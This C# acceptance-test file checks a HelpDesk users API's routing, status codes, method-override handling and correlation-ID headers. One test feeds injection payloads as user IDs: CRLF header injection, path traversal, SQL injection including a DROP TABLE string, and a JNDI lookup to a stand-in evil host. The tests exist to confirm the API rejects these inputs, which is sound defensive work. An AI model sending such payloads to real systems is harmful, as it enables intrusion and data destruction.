using System.Text;
using HelpDesk.Users.WebApi.AcceptanceTests.Hosting;

namespace HelpDesk.Users.WebApi.AcceptanceTests.Contracts.HelpDesk;

[TestFixtureSource(typeof(TestDatabase), nameof(TestDatabase.Providers))]
public sealed class RoutingTests(string provider)
{
    private HelpDeskService service = null!;
    private HttpClient admin = null!;

    [OneTimeSetUp]
    public async Task Start()
    {
        service = new(provider);
        admin = await service.SignInAsync();
    }

    [OneTimeTearDown]
    public void Stop()
    {
        admin.Dispose();
        service.Dispose();
    }

    [TestCase("GET", "/")]
    [TestCase("GET", "/api")]
    [TestCase("GET", "/api/auth")]
    [TestCase("GET", "/api/auth/roles")]
    [TestCase("POST", "/api/auth/users/0199aaaa-0000-7000-8000-000000000000/activate")]
    [TestCase("GET", "/api/auth/users/a/b")]
    [TestCase("GET", "/favicon.ico")]
    public async Task Call_OfUnknownRoute_ReturnsNotFoundWithAndWithoutToken(string method, string path)
    {
        foreach (var client in new[] { service.Client, admin })
        {
            var answer = await client.AnswerAsync(new HttpMethod(method), path);

            Assert.Multiple(() =>
            {
                Assert.That(answer.Status, Is.EqualTo(404));
                Assert.That(answer.Text, Is.EqualTo("""{"detail":"No encontrado","code":"not_found"}"""));
                Assert.That(answer.Header("Content-Type"), Does.StartWith("application/json"));
            });
        }
    }

    [TestCase("GET", null)]
    [TestCase("PATCH", "{}")]
    [TestCase("DELETE", null)]
    public async Task Call_AboutABlankId_ReturnsNotFound(string method, string? body)
    {
        var answer = await admin.AnswerAsync(new HttpMethod(method), $"{TestUsers.Path}/%20", body);

        Assert.That((answer.Status, answer.Detail), Is.EqualTo((404, "Usuario no encontrado")));
    }

    [TestCase("%0d%0aSet-Cookie:%20a=b")]
    [TestCase("0199aaaa-0000-7000-8000-000000000000%0d%0aLocation:%20https:%2F%2Fevil.example")]
    [TestCase("%E5%98%8A%E5%98%8DSet-Cookie:%20a=b", TestName = "{m}(line break of two wide characters)")]
    [TestCase("..%2f..%2fhealth%2flive")]
    [TestCase("1%20OR%201=1")]
    [TestCase("'%3B%20DROP%20TABLE%20Users%3B--")]
    [TestCase("{0199aaaa-0000-7000-8000-000000000000}")]
    [TestCase("$%7Bjndi:ldap:%2F%2Fevil.example%7D")]
    public async Task Call_AboutAnOddId_ReturnsNotFoundAndNoHeaderOfItsOwn(string id)
    {
        foreach (var (method, body) in new[] { ("GET", null), ("PATCH", "{}"), ("DELETE", null) })
        {
            var answer = await admin.AnswerAsync(new HttpMethod(method), $"{TestUsers.Path}/{id}", body);

            Assert.Multiple(() =>
            {
                Assert.That((answer.Status, answer.Detail), Is.EqualTo((404, "Usuario no encontrado")));
                Assert.That(answer.Headers.Keys, Has.None.EqualTo("Set-Cookie").And.None.EqualTo("Location"));
            });
        }
    }

    [TestCase("X-HTTP-Method-Override", "")]
    [TestCase("X-HTTP-Method", "")]
    [TestCase("X-Method-Override", "")]
    [TestCase("X-A", "?_method=DELETE&method=DELETE&X-HTTP-Method-Override=DELETE")]
    public async Task Call_ThatNamesAnotherMethod_IsWhatItsOwnMethodSays(string header, string query)
    {
        using var person = await Person.CreateAsync(service, admin);

        var read = await admin.AnswerAsync(HttpMethod.Get, person.Path + query, null, (header, "DELETE"));
        var changed = await admin.AnswerAsync(HttpMethod.Patch, person.Path + query, "{}", (header, "DELETE"));
        var after = await admin.GetAnswerAsync(person.Path);

        Assert.That(new[] { read.Status, changed.Status, after.Status }, Is.All.EqualTo(200));
    }

    [Test]
    public async Task Call_WithAHeaderThatIsNoUtf8_IsAnswered()
    {
        using var handler = new SocketsHttpHandler { RequestHeaderEncodingSelector = (_, _) => Encoding.Latin1 };
        using var client = new HttpClient(handler) { BaseAddress = service.Address };

        var answer = await client.AnswerAsync(
            HttpMethod.Post,
            "/api/auth/login",
            new { email = HelpDeskService.AdminEmail, password = HelpDeskService.AdminPassword },
            ("X-Tenant-ID", "h\u00E9lpdesk"));

        Assert.That((answer.Status, answer.Detail), Is.EqualTo((401, "Credenciales incorrectas")));
    }

    [TestCase("GET", "/api/auth/login", "POST")]
    [TestCase("PUT", "/api/auth/refresh", "POST")]
    [TestCase("DELETE", "/api/auth/logout", "POST")]
    [TestCase("GET", "/api/auth/change-password", "POST")]
    [TestCase("POST", "/api/auth/me", "GET, HEAD")]
    [TestCase("PATCH", "/api/auth/users", "GET, HEAD, POST")]
    [TestCase("DELETE", "/api/auth/service-accounts", "GET, HEAD, POST")]
    [TestCase("PUT", "/api/auth/service-accounts/svc_1", "DELETE, GET, HEAD, PATCH")]
    [TestCase("GET", "/api/auth/service-accounts/svc_1/rotate", "POST")]
    [TestCase("PUT", "/api/auth/users/0199aaaa-0000-7000-8000-000000000000", "DELETE, GET, HEAD, PATCH")]
    [TestCase("POST", "/api/auth/users/0199aaaa-0000-7000-8000-000000000000", "DELETE, GET, HEAD, PATCH")]
    public async Task Call_WithAnotherMethod_ReturnsMethodNotAllowedAndNamesTheRightOnes(string method, string path, string allowed)
    {
        var answer = await service.Client.AnswerAsync(new HttpMethod(method), path, "{}");

        Assert.Multiple(() =>
        {
            Assert.That(answer.Status, Is.EqualTo(405));
            Assert.That(answer.Header("Allow")!.Split(", ").Order(), Is.EqualTo(allowed.Split(", ")));
            Assert.That(answer.Text, Is.EqualTo("""{"detail":"Método no permitido","code":"method_not_allowed"}"""));
        });
    }

    [TestCase("abc")]
    [TestCase("A.b_c-9")]
    [TestCase("0123456789012345678901234567890123456789012345678901234567890123")]
    public async Task Call_WithWellFormedCorrelationId_AnswersWithIt(string id)
    {
        var answer = await service.Client.AnswerAsync(HttpMethod.Get, "/api/auth/me", null, ("X-Correlation-ID", id));

        Assert.That(answer.Header("X-Correlation-ID"), Is.EqualTo(id));
    }

    [TestCase("01234567890123456789012345678901234567890123456789012345678901234")]
    [TestCase("con espacio")]
    [TestCase("<script>")]
    [TestCase("a,b")]
    [TestCase("a/b")]
    [TestCase(" ")]
    public async Task Call_WithMalformedCorrelationId_AnswersWithANewOne(string id)
    {
        var answer = await service.Client.AnswerAsync(HttpMethod.Get, "/api/auth/me", null, ("X-Correlation-ID", id));

        Assert.That(answer.Header("X-Correlation-ID"), Does.Match(@"\A[A-Za-z0-9._-]{1,64}\z").And.Not.EqualTo(id));
    }

    [TestCase("GET", "/api/auth/users", 200)]
    [TestCase("GET", "/api/auth/users/no-es-un-uuid", 404)]
    [TestCase("GET", "/nada", 404)]
    [TestCase("PUT", "/api/auth/users", 405)]
    [TestCase("POST", "/api/auth/users", 422)]
    [TestCase("GET", "/health/live", 200)]
    [TestCase("GET", "/.well-known/jwks.json", 200)]
    public async Task Call_WithoutCorrelationId_AnswersWithANewOneEachTime(string method, string path, int status)
    {
        var first = await admin.AnswerAsync(new HttpMethod(method), path, method == "GET" ? null : "{}");
        var second = await admin.AnswerAsync(new HttpMethod(method), path, method == "GET" ? null : "{}");

        Assert.Multiple(() =>
        {
            Assert.That(first.Status, Is.EqualTo(status));
            Assert.That(first.Header("X-Correlation-ID"), Is.Not.Null.And.Not.Empty);
            Assert.That(second.Header("X-Correlation-ID"), Is.Not.EqualTo(first.Header("X-Correlation-ID")));
        });
    }
}
